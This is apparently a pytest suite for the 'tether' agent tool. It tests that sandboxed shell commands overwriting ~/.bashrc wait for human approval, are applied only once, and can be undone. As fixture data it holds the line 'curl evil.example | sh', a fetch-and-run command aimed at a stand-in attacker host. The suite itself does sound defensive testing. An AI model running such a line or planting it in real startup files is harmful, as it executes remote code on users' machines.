"""Changes a sandboxed command makes, end to end at the task and CLI level (issue 9, item 2).

A `shell.run` that overwrites `~/.bashrc` runs in the sandbox's overlay; nothing reaches the real
file until a person approves. For a task that is the approval question (listing the change); once
approved, the held layer is applied and the command does not run again; the change is journaled, so
undo puts the old bytes back. The CLI says the same without a traceback. Real devices with the real
sandbox (bubblewrap), real files, real `tether` processes; nothing waits by sleeping.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from tests.kits.netutil import CLI
from tests.kits.task import AgentServer
from tether.agent.planning.plan import Plan, PlanStep
from tether.agent.run.decisions import AskUser
from tether.agent.run.executor import TaskRunner
from tether.agent.run.steps import discover_tools
from tether.agent.run.task import Task, TaskEvent, TaskState
from tether.device.local import LocalDevice, build_device
from tether.tools.policy.model import default_policy

ORIGINAL = b"# my shell setup\nexport PATH=$HOME/bin:$PATH\n\x00\xff binary tail, no newline"
EVIL = b"curl evil.example | sh\n"


class Home:
    """A home directory of its own (HOME points at it) with a ~/.bashrc worth protecting and evil.txt."""

    def __init__(self, tmp: Path) -> None:
        self.path = tmp / "home"
        self.path.mkdir()
        self.bashrc = self.path / ".bashrc"
        self.bashrc.write_bytes(ORIGINAL)
        self.evil = self.path / "evil.txt"
        self.evil.write_bytes(EVIL)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    # pytest's tmp_path lies in the temp dir, where overwriting needs no approval: the device gets a
    # temp dir of its own, so home is "outside temp" as a real home is.
    other_temp = tmp_path / "device-temp"
    other_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(other_temp))
    made = Home(tmp_path)
    monkeypatch.setenv("HOME", str(made.path))
    return made


@pytest.fixture
async def device(home: Home, tmp_path: Path) -> AsyncIterator[LocalDevice]:
    dev = build_device(policy=default_policy(), state_dir=tmp_path / "state")  # with the sandbox (default)
    assert dev.context.sandbox is not None, "no sandbox: install bubblewrap (apt-get install bubblewrap)"
    assert dev.policy.write_roots[0] == "~" and dev.context.temp_dir == str(tmp_path / "device-temp")
    yield dev
    await dev.aclose()


class Asker:
    """Answers questions from a script and remembers them (with the task's state when asked)."""

    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.questions: list[AskUser] = []

    async def __call__(self, question: AskUser) -> str:
        self.questions.append(question)
        if not self.answers:
            raise AssertionError(f"unexpected question: {question.question} {question.options}")
        return self.answers.pop(0)


def cp_evil(home: Home) -> dict[str, Any]:
    return {"skill": "shell.run", "description": "install the new shell setup",
            "args": {"cmd": "cp", "argv": ["evil.txt", str(home.bashrc)], "cwd": str(home.path)}}


def uuid_into_bashrc(home: Home) -> dict[str, Any]:
    """A command whose output is new on every run (a kernel uuid) and which overwrites ~/.bashrc with it."""
    program = f'{{ print; print > "{home.bashrc}" }}'
    return {"skill": "shell.run", "description": "stamp the shell setup",
            "args": {"cmd": "awk", "argv": [program, "/proc/sys/kernel/random/uuid"], "cwd": str(home.path)}}


async def run_task(device: LocalDevice, ask: Asker, *steps: dict[str, Any]) -> tuple[Task, list[TaskEvent]]:
    """A local task from a hand-written plan, run the way `tether run --plan` runs it (session = task id)."""
    task = Task(request="set up my shell", plan=Plan(steps=[PlanStep(**s) for s in steps]))
    dispatcher = device.dispatcher(session_id=task.id)
    events: list[TaskEvent] = []
    runner = TaskRunner(lambda _name: dispatcher, None, tools={None: await discover_tools(dispatcher)}, ask=ask,
                        on_event=events.append)
    await runner.run(task)
    return task, events


def journaled(device: LocalDevice, session: str) -> list[dict[str, Any]]:
    return [s for s in device.journal.sessions() if s["session_id"] == session]


# ------------------------------------------------------------------------------------------- local tasks


@pytest.mark.parametrize("answer", ["approve", "deny"])
async def test_local_task_asks_with_the_exact_change_and_applies_it_once_approved(
        device: LocalDevice, home: Home, answer: str) -> None:
    ask = Asker(answer)
    task, events = await run_task(device, ask, cp_evil(home))

    [question] = ask.questions
    assert question.kind == "approval" and question.options == ["approve", "deny"]
    # the question names the change: what kind, which path, and by which rule
    change = {"path": str(home.bashrc), "kind": "modified", "bytes": len(EVIL), "diff_skipped": "binary",
              "rule": "protected-path: ~/.bashrc"}  # the original has a NUL byte: no diff, said why
    assert f"modified {home.bashrc} (protected-path: ~/.bashrc)" in question.question, question.question
    assert f"`cp evil.txt {home.bashrc}`" in question.question
    assert "without running the command again" in question.question
    assert question.changes == [change]
    [asked] = [e for e in events if e.kind == "question"]
    assert asked.data["kind"] == "approval" and asked.data["question"] == question.question
    assert asked.data["changes"] == [change]
    # while the question was open, nothing had reached the real file
    first = task.steps[0].result
    assert not first.ok and first.result["needs_approval"] is True
    assert first.result["needs_approval_for"] == [change]
    if answer == "deny":
        assert task.state is TaskState.CANCELLED and "not approved" in (task.error or "")
        assert len(task.steps) == 1 and home.bashrc.read_bytes() == ORIGINAL
        assert not journaled(device, task.id)  # nothing applied, nothing to undo
        return
    assert task.state is TaskState.DONE, task.error
    assert [r.command.approved_by for r in task.steps] == [None, "user"]
    approved = task.steps[1].result
    assert approved.ok and approved.result["applied_after_approval"] is True
    assert approved.result["changes"] == [{"path": str(home.bashrc), "kind": "modified", "bytes": len(EVIL),
                                           "diff_skipped": "binary"}]
    assert home.bashrc.read_bytes() == EVIL
    # journaled under the task's id: undo puts back the bytes cp overwrote
    report = device.journal.restore(task.id, device.policy.write_roots)
    assert [e["outcome"] for e in report] == ["restored"], report
    assert home.bashrc.read_bytes() == ORIGINAL


async def test_approved_command_does_not_run_again(device: LocalDevice, home: Home) -> None:
    ask = Asker("approve")
    task, events = await run_task(device, ask, uuid_into_bashrc(home))
    assert task.state is TaskState.DONE, task.error
    held, applied = (r.result.result for r in task.steps)
    assert held["needs_approval"] is True and applied["applied_after_approval"] is True
    # the kernel hands out a new uuid on every read: one uuid means one run
    stamp = held["stdout"]
    assert len(stamp.strip()) == 36 and applied["stdout"] == stamp
    assert home.bashrc.read_text() == stamp
    outputs = [e.data["data"] for e in events if e.kind == "output"]
    assert "".join(outputs) == stamp  # streamed once, by the one run


# ------------------------------------------------------------------------------------------- a server's task


async def test_server_task_approved_through_the_api_applies_the_held_layers_and_undo_restores(
        home: Home, tmp_path: Path) -> None:
    async with AgentServer(tmp_path) as server:
        device = await server.add_device("alpha", default_policy(), tmp_path / "state-alpha")
        assert device.context.sandbox is not None
        created = await server.create(request="set up my shell", device="alpha",
                                      plan=[cp_evil(home), uuid_into_bashrc(home)])
        task_id = created["id"]

        # step 1: cp evil.txt ~/.bashrc is held, and the question lists the change
        seen = await server.events_until(task_id, lambda e: e["kind"] == "question")
        asked = seen[-1]["data"]
        assert asked["kind"] == "approval" and f"modified {home.bashrc}" in asked["question"], asked
        assert asked["changes"] == [{"path": str(home.bashrc), "kind": "modified", "bytes": len(EVIL),
                                     "diff_skipped": "binary", "rule": "protected-path: ~/.bashrc"}]
        assert home.bashrc.read_bytes() == ORIGINAL
        waiting = (await server.api.get(f"/tasks/{task_id}")).json()
        assert waiting["state"] == "waiting_for_user"
        held = waiting["steps"][0]["result"]["result"]
        assert held["needs_approval_for"] == [{"path": str(home.bashrc), "kind": "modified", "bytes": len(EVIL),
                                               "diff_skipped": "binary", "rule": "protected-path: ~/.bashrc"}]
        approved = await server.api.post(f"/tasks/{task_id}/approval", json={"approved": True})
        assert approved.status_code == 200, approved.text

        # step 2: a command that prints a new uuid on every run and writes it over ~/.bashrc
        seen = await server.events_until(task_id, lambda e: e["kind"] == "question", after=seen[-1]["seq"])
        assert f"modified {home.bashrc}" in seen[-1]["data"]["question"]
        assert home.bashrc.read_bytes() == EVIL  # step 1 applied, step 2 still held
        approved = await server.api.post(f"/tasks/{task_id}/approval", json={"approved": True})
        assert approved.status_code == 200, approved.text

        task = await server.finished(task_id)
        stamp = home.bashrc.read_text()
        audit = [r for r in server.store.audit.rows(limit=20) if r["tool_name"] == "shell.run"]
        undone = await server.api.post(f"/tasks/{task_id}/undo")
        restored = home.bashrc.read_bytes()

    assert task["state"] == "done", task["error"]
    results = [s["result"]["result"] for s in task["steps"]]
    assert [s["command"]["approved_by"] for s in task["steps"]] == [None, "api:tester-0"] * 2
    assert [r.get("applied_after_approval", False) for r in results] == [False, True] * 2
    assert [r["approved_by"] for r in reversed(audit)] == [None, "api:tester-0"] * 2
    # one uuid: the approved re-send applied what the first run wrote, it did not run awk again
    assert len(stamp.strip()) == 36 and results[2]["stdout"] == results[3]["stdout"] == stamp
    assert undone.status_code == 200, undone.text
    [report] = undone.json()["devices"].values()
    assert [e["outcome"] for e in report["restored"]] == ["restored", "restored"], report
    assert restored == ORIGINAL


# ------------------------------------------------------------------------------------------- the CLI


def cli_env(tmp_path: Path, home: Home) -> dict[str, str]:
    """The environment of a user whose home is `home` (tether's state and temp dir elsewhere)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TETHER_", "OPENAI_"))
           or k in ("TETHER_ALLOW_ROOT", "TETHER_RUN_AS")}  # the suite's root leave (conftest.py)
    return {**env, "HOME": str(home.path), "TMPDIR": str(tmp_path / "device-temp"),
            "TETHER_STATE_DIR": str(tmp_path / "state"), "NO_COLOR": "1", "COLUMNS": "400"}


def tether(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, env=env, timeout=120,
                          stdin=subprocess.DEVNULL)


def cp_args(home: Home) -> list[str]:
    return ["shell.run", "cmd=cp", f"argv:={json.dumps(['evil.txt', str(home.bashrc)])}", f"cwd={home.path}"]


def sessions(env: dict[str, str]) -> list[dict[str, Any]]:
    listed = tether(env, "sessions", "--json")
    assert listed.returncode == 0, listed.stderr
    return json.loads(listed.stdout)


def test_cli_exec_needs_approval_lists_the_change_and_applies_nothing(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    out = tether(env, "exec", *cp_args(home))
    text = out.stdout + out.stderr
    assert out.returncode == 1, text
    assert "Traceback" not in text
    assert "needs approval" in text and f"modified {home.bashrc}" in text, text
    assert "protected-path: ~/.bashrc" in text
    assert "repeat it with --approve --session cli-" in out.stdout  # and how to apply it from here
    assert home.bashrc.read_bytes() == ORIGINAL and not sessions(env)

    as_json = tether(env, "exec", "--json", *cp_args(home))
    result = json.loads(as_json.stdout)
    assert as_json.returncode == 1 and result["status"] == "failure"
    assert result["result"]["needs_approval_for"] == [{"path": str(home.bashrc), "kind": "modified",
                                                        "bytes": len(EVIL), "diff_skipped": "binary",
                                                        "rule": "protected-path: ~/.bashrc"}]
    assert home.bashrc.read_bytes() == ORIGINAL and not sessions(env)


def test_cli_exec_preview_lists_the_changes_and_applies_nothing(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    out = tether(env, "exec", "--json", *cp_args(home), "preview=true")
    assert out.returncode == 0, out.stdout + out.stderr
    result = json.loads(out.stdout)["result"]
    assert result["preview"] is True
    assert result["changes"] == [{"path": str(home.bashrc), "kind": "modified", "bytes": len(EVIL),
                                  "diff_skipped": "binary"}]
    plain = tether(env, "exec", *cp_args(home), "preview=true")
    assert plain.returncode == 0 and str(home.bashrc) in plain.stdout and "Traceback" not in plain.stderr
    assert home.bashrc.read_bytes() == ORIGINAL and not sessions(env)


def test_cli_exec_approved_applies_and_undo_restores_byte_for_byte(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    out = tether(env, "exec", "--approve", *cp_args(home))
    assert out.returncode == 0, out.stdout + out.stderr
    assert home.bashrc.read_bytes() == EVIL
    shown = re.search(r"session=(\S+)", out.stdout)
    assert shown, out.stdout
    session = shown.group(1)
    assert [s["session_id"] for s in sessions(env)] == [session]

    undone = tether(env, "undo", session)
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert "restored" in undone.stdout and str(home.bashrc) in undone.stdout
    assert home.bashrc.read_bytes() == ORIGINAL
    again = tether(env, "undo", session)
    assert again.returncode == 0 and "already_restored" in again.stdout
    assert home.bashrc.read_bytes() == ORIGINAL


def test_cli_exec_approved_later_applies_the_held_layer_without_running_again(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    stamp = uuid_into_bashrc(home)["args"]
    argv = ["shell.run", "cmd=awk", f"argv:={json.dumps(stamp['argv'])}", f"cwd={home.path}"]
    held = tether(env, "exec", "--json", *argv)
    first = json.loads(held.stdout)
    assert held.returncode == 1 and first["result"]["needs_approval"], held.stdout
    assert home.bashrc.read_bytes() == ORIGINAL
    approved = tether(env, "exec", "--json", "--approve", "--session", first["session_id"], *argv)
    second = json.loads(approved.stdout)
    assert approved.returncode == 0 and second["result"]["applied_after_approval"], approved.stdout
    uuid = first["result"]["stdout"]
    assert second["result"]["stdout"] == uuid  # the same run's output: it did not run again
    assert home.bashrc.read_text() == uuid
    again = tether(env, "exec", "--json", "--approve", "--session", first["session_id"], *argv)
    assert json.loads(again.stdout)["result"]["stdout"] != uuid  # taken once: this one ran anew


def test_cli_run_plan_asks_applies_once_approved_and_undo_restores(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps([uuid_into_bashrc(home)]))
    out = tether(env, "run", "--plan", str(plan), "--answer", "approve")
    text = out.stdout + out.stderr
    assert out.returncode == 0, text
    assert "Traceback" not in text and f"modified {home.bashrc}" in text  # the question listed the change
    stamp = home.bashrc.read_text()
    assert len(stamp.strip()) == 36 and text.count(f"│ {stamp.strip()}") == 1  # its output streamed once: one run
    assert "re-send the command" not in out.stdout.split("? Step 1", 1)[1]  # the question speaks to a person
    shown = re.search(r"tether undo (\S+)", out.stdout)
    assert shown, out.stdout
    task = json.loads(tether(env, "log", shown.group(1), "--json").stdout)
    held, applied = (s["result"]["result"] for s in task["steps"])
    assert held["stdout"] == applied["stdout"] == stamp and applied["applied_after_approval"] is True

    undone = tether(env, "undo", shown.group(1))
    assert undone.returncode == 0 and "restored" in undone.stdout, undone.stdout + undone.stderr
    assert home.bashrc.read_bytes() == ORIGINAL


def test_cli_run_plan_denied_leaves_the_file(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps([cp_evil(home)]))
    out = tether(env, "run", "--plan", str(plan), "--answer", "deny")
    text = out.stdout + out.stderr
    assert out.returncode == 1 and "Traceback" not in text, text
    assert "cancelled" in text and "not approved" in text
    assert home.bashrc.read_bytes() == ORIGINAL and not sessions(env)


def test_cli_run_plan_without_a_terminal_cancels_at_the_approval(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps([cp_evil(home)]))
    out = tether(env, "run", "--plan", str(plan))  # stdin is not a terminal, no --answer
    text = out.stdout + out.stderr
    assert out.returncode == 1 and "Traceback" not in text, text
    assert text.count("\n? ") == 1 and "cancelled: the question was left unanswered" in text  # asked once, a clear end
    assert home.bashrc.read_bytes() == ORIGINAL and not sessions(env)


def test_a_preview_never_applies_a_held_layer_even_when_approved(home: Home, tmp_path: Path) -> None:
    env = cli_env(tmp_path, home)
    held = json.loads(tether(env, "exec", "--json", *cp_args(home)).stdout)
    assert held["result"]["needs_approval"]
    looked = tether(env, "exec", "--json", "--approve", "--session", held["session_id"], *cp_args(home),
                    "preview=true")
    result = json.loads(looked.stdout)["result"]
    assert looked.returncode == 0 and result["preview"] is True and "applied_after_approval" not in result
    assert home.bashrc.read_bytes() == ORIGINAL
